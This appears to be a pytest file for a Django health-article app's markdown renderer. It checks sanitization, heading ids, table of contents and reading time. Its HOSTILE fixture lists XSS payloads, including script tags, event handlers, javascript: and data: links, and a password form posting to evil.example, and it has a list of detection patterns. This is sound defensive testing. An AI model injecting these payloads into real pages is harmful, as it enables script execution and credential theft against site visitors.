"""Markdown is rendered once, on save, into HTML that can never run code."""

import re

import pytest

from articles.markdown import reading_minutes_for, render_markdown
from tests.articles.factories import ArticleFactory

HOSTILE = """
## Is this safe?

<script>alert('script tag')</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src="x" onerror="alert('onerror')">
<p onmouseover="alert('hover')">hover me</p>
[click me](javascript:alert('link'))
[mixed case](JaVaScRiPt:alert('link2'))
[entity](&#106;avascript:alert('link3'))
<a href="javascript:alert('raw link')">raw link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="evil.swf"></object><embed src="evil.swf">
<svg onload="alert('svg')"><circle r="1"/></svg>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"></form>
<div style="background:url(javascript:alert('css'))">styled</div>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<h2 id="main" onclick="alert('heading')">Hijacked id</h2>
"""

EXECUTABLE = [
    r"<script",
    r"<iframe",
    r"<object",
    r"<embed",
    r"<svg",
    r"<style",
    r"<form",
    r"<input",
    r"<meta",
    r"<base",
    r"\son\w+\s*=",
    r"javascript:",
    r"data:text/html",
    r"style=",
]


def test_hostile_markdown_renders_nothing_executable():
    html = render_markdown(HOSTILE).html.lower()
    for pattern in EXECUTABLE:
        assert not re.search(pattern, html), f"{pattern!r} survived sanitizing: {html}"


def test_hostile_markdown_keeps_harmless_text():
    html = render_markdown(HOSTILE).html
    assert "hover me" in html
    assert "click me" in html
    assert "styled" in html
    assert "alert('script tag')" not in html


def test_author_ids_are_prefixed_so_they_cannot_hijack_page_elements():
    html = render_markdown(HOSTILE).html
    assert 'id="main"' not in html
    assert 'id="s-main"' in html


def test_safe_links_and_formatting_survive():
    html = render_markdown("See the [NHS](https://www.nhs.uk/) and **rest**.\n\n- one\n- two").html
    assert '<a href="https://www.nhs.uk/" rel="noopener noreferrer nofollow">NHS</a>' in html
    assert "<strong>rest</strong>" in html
    assert "<li>one</li>" in html


def test_headings_get_ids_and_a_table_of_contents():
    rendered = render_markdown("## What is eczema?\n\ntext\n\n### Is it contagious?\n\ntext\n\n## Treatment & care\n")
    assert rendered.toc == [
        {"id": "s-what-is-eczema", "title": "What is eczema?", "level": 2},
        {"id": "s-is-it-contagious", "title": "Is it contagious?", "level": 3},
        {"id": "s-treatment-care", "title": "Treatment & care", "level": 2},
    ]
    for entry in rendered.toc:
        assert f'id="{entry["id"]}"' in rendered.html


@pytest.mark.parametrize(("words", "minutes"), [(0, 1), (1, 1), (200, 1), (201, 2), (1000, 5)])
def test_reading_time_is_words_over_200_rounded_up(words, minutes):
    assert reading_minutes_for(words) == minutes


def test_word_count_ignores_markup():
    rendered = render_markdown("## Two words\n\n**three more words** [link](https://a.example)")
    assert rendered.word_count == 6


@pytest.mark.django_db
def test_article_stores_rendered_body_on_save(doctor, reviewer):
    article = ArticleFactory(author=doctor, reviewer=reviewer, body_markdown="## Why?\n\n" + "word " * 450)
    article.refresh_from_db()
    assert article.body_html.startswith('<h2 id="s-why">Why?</h2>')
    assert article.reading_minutes == 3
    assert article.toc == [{"id": "s-why", "title": "Why?", "level": 2}]

    article.body_markdown = "<script>alert(1)</script>Changed"
    article.save(update_fields=["body_markdown"])
    article.refresh_from_db()
    assert "<script" not in article.body_html
    assert "Changed" in article.body_html
